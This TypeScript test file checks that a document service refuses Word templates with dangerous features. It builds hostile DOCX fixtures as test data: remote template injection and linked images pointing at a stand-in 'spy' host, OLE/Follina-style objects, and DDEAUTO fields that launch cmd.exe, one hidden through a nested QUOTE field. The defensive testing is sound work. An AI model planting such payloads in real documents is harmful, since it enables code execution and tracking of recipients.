import PizZip from 'pizzip';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { addOfficeTemplate } from '../testing/addOfficeTemplate';
import { toBase64 } from '../testing/docxFixtures';
import { type HostileParts, hostileDocx, paragraph, refusalOf, storedCounts } from '../testing/hostileDocx';
import { openTestWorkspace } from '../testing/openWorkspace';
import { officeTemplates } from './documentService';
import { render } from './templateEngine';
import { openTemplate } from './templateFile';

let env: Awaited<ReturnType<typeof openTestWorkspace>>;
beforeEach(async () => {
  env = await openTestWorkspace();
});
afterEach(() => env.close());

const add = (bytes: Buffer) => addOfficeTemplate(env.workspace, bytes);

/** Adding the template is refused with `code`, and nothing is stored. */
function expectRefused(spec: HostileParts, code: string) {
  const before = storedCounts(env.workspace.db);
  const bytes = hostileDocx(spec);
  expect(refusalOf(() => add(bytes)).code).toBe(code);
  expect(refusalOf(() => officeTemplates(env.workspace).inspect({ contentBase64: toBase64(bytes) })).code).toBe(code);
  expect(storedCounts(env.workspace.db)).toEqual(before);
}

const SPY = 'http://203.0.113.5';
const body = (inner: string) => `${paragraph('{applicant.fullName}')}${inner}`;
/** A complex field: begin, its code in instrText runs, separate, a result, end. */
const field = (...code: string[]) =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${code
    .map((c) => `<w:r><w:instrText xml:space="preserve">${c}</w:instrText></w:r>`)
    .join(
      '',
    )}<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;

describe('a template that would make Word fetch or run something is refused', () => {
  it('removes a link to a remote Word template ("template injection") and says where it pointed', () => {
    const bytes = hostileDocx({
      parts: {
        'word/settings.xml': {
          content: `<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="rId1"/></w:settings>`,
          type: 'settings+xml',
        },
      },
      partRelationships: {
        'word/_rels/settings.xml.rels': [{ type: 'attachedTemplate', target: `${SPY}/t.dotm`, external: true }],
      },
    });
    const inspection = officeTemplates(env.workspace).inspect({ contentBase64: toBase64(bytes) });
    expect(inspection.attachedTemplate).toBe(`${SPY}/t.dotm`);
    const { bytes: out } = render(openTemplate(bytes).zip, { applicant: { fullName: 'Назаров Шерали' } });
    const written = new PizZip(out);
    for (const file of Object.values(written.files)) {
      if (!file.dir) expect(file.asText(), file.name).not.toMatch(/203\.0\.113\.5|attachedTemplate/);
    }
  });

  it('refuses a linked picture (an external image relationship)', () => {
    expectRefused(
      { body: body(''), relationships: [{ type: 'image', target: `${SPY}/pixel.png`, external: true }] },
      'DOCX_EXTERNAL_LINK',
    );
  });

  it('refuses a web link, keeps a mailto link', () => {
    expectRefused(
      { body: body(''), relationships: [{ type: 'hyperlink', target: `${SPY}/read`, external: true }] },
      'DOCX_EXTERNAL_LINK',
    );
    const mail = hostileDocx({
      body: body(''),
      relationships: [{ type: 'hyperlink', target: 'mailto:office@example.org', external: true }],
    });
    expect(add(mail)).toMatch(/.+/);
  });

  it('refuses an OLE object relationship (the Follina route), even inside the package', () => {
    expectRefused(
      { body: body(''), relationships: [{ type: 'oleObject', target: `${SPY}/x.html!`, external: true }] },
      'DOCX_EMBEDDED_OBJECT',
    );
    expectRefused(
      { body: body(''), relationships: [{ type: 'oleObject', target: 'embeddings/o.bin' }] },
      'DOCX_EMBEDDED_OBJECT',
    );
  });

  it('refuses an embedded object part and an ActiveX part', () => {
    expectRefused(
      { body: body(''), parts: { 'word/embeddings/oleObject1.bin': { content: Buffer.from('ole') } } },
      'DOCX_EMBEDDED_OBJECT',
    );
    expectRefused(
      { body: body(''), parts: { 'word/activeX/activeX1.bin': { content: Buffer.from('ax') } } },
      'DOCX_EMBEDDED_OBJECT',
    );
  });

  it('refuses an imported chunk, a subdocument and a custom ribbon', () => {
    expectRefused(
      { body: body(''), relationships: [{ type: 'aFChunk', target: 'chunk.html' }] },
      'DOCX_EMBEDDED_OBJECT',
    );
    expectRefused(
      { body: body(''), relationships: [{ type: 'subDocument', target: `${SPY}/sub.docx`, external: true }] },
      'DOCX_EMBEDDED_OBJECT',
    );
    expectRefused(
      { body: body(''), parts: { 'customUI/customUI14.xml': { content: '<customUI/>' } } },
      'DOCX_EMBEDDED_OBJECT',
    );
  });

  it('refuses a frameset in the web settings', () => {
    expectRefused(
      {
        body: body(''),
        parts: {
          'word/webSettings.xml': {
            content: `<w:webSettings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:frameset/></w:webSettings>`,
            type: 'webSettings+xml',
          },
        },
      },
      'DOCX_EMBEDDED_OBJECT',
    );
  });

  it('refuses INCLUDEPICTURE, INCLUDETEXT and LINK fields', () => {
    expectRefused({ body: body(field(`INCLUDEPICTURE "${SPY}/p.png" \\d`)) }, 'DOCX_ACTIVE_FIELD');
    expectRefused({ body: body(field('INCLUDE', `TEXT "${SPY}/t.docx"`)) }, 'DOCX_ACTIVE_FIELD');
    expectRefused({ body: body(field('LINK Excel.Sheet.8 "c:\\\\x.xls" "" \\a')) }, 'DOCX_ACTIVE_FIELD');
  });

  it('refuses DDE and DDEAUTO, in a simple field and built by a nested field', () => {
    expectRefused(
      { body: body(`<w:p><w:fldSimple w:instr=' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'/></w:p>`) },
      'DOCX_ACTIVE_FIELD',
    );
    // { {QUOTE 68 68 69} c:\\cmd.exe }: the field's name is made by another field when Word opens it.
    const nested = `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${field('QUOTE 68 68 69').replace(/^<w:p>|<\/w:p>$/g, '')}<w:r><w:instrText xml:space="preserve"> c:\\\\cmd.exe</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;
    expectRefused({ body: body(nested) }, 'DOCX_ACTIVE_FIELD');
  });

  it('refuses a HYPERLINK field to a web address, keeps page numbers', () => {
    expectRefused({ body: body(field(`HYPERLINK "${SPY}/x"`)) }, 'DOCX_EXTERNAL_LINK');
    expect(add(hostileDocx({ body: body(field('PAGE \\* MERGEFORMAT')) }))).toMatch(/.+/);
  });

  it('refuses a VML image that loads from a server', () => {
    expectRefused(
      { body: body(`<w:p><w:r><w:pict><v:shape><v:imagedata src="${SPY}/p.png"/></v:shape></w:pict></w:r></w:p>`) },
      'DOCX_EXTERNAL_LINK',
    );
  });

  it('refuses a mail-merge data source', () => {
    expectRefused(
      {
        body: body(''),
        parts: {
          'word/settings.xml': {
            content: `<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:mailMerge><w:mainDocumentType w:val="formLetters"/></w:mailMerge></w:settings>`,
            type: 'settings+xml',
          },
        },
      },
      'DOCX_EXTERNAL_LINK',
    );
  });

  it('refuses a document type declaration in any part, not only the main one', () => {
    const dtd = `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">]><w:ftr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:p><w:r><w:t>&a;</w:t></w:r></w:p></w:ftr>`;
    expectRefused({ body: body(''), parts: { 'word/footer1.xml': { content: dtd, type: 'footer+xml' } } }, 'DOCX_DTD');
  });
});
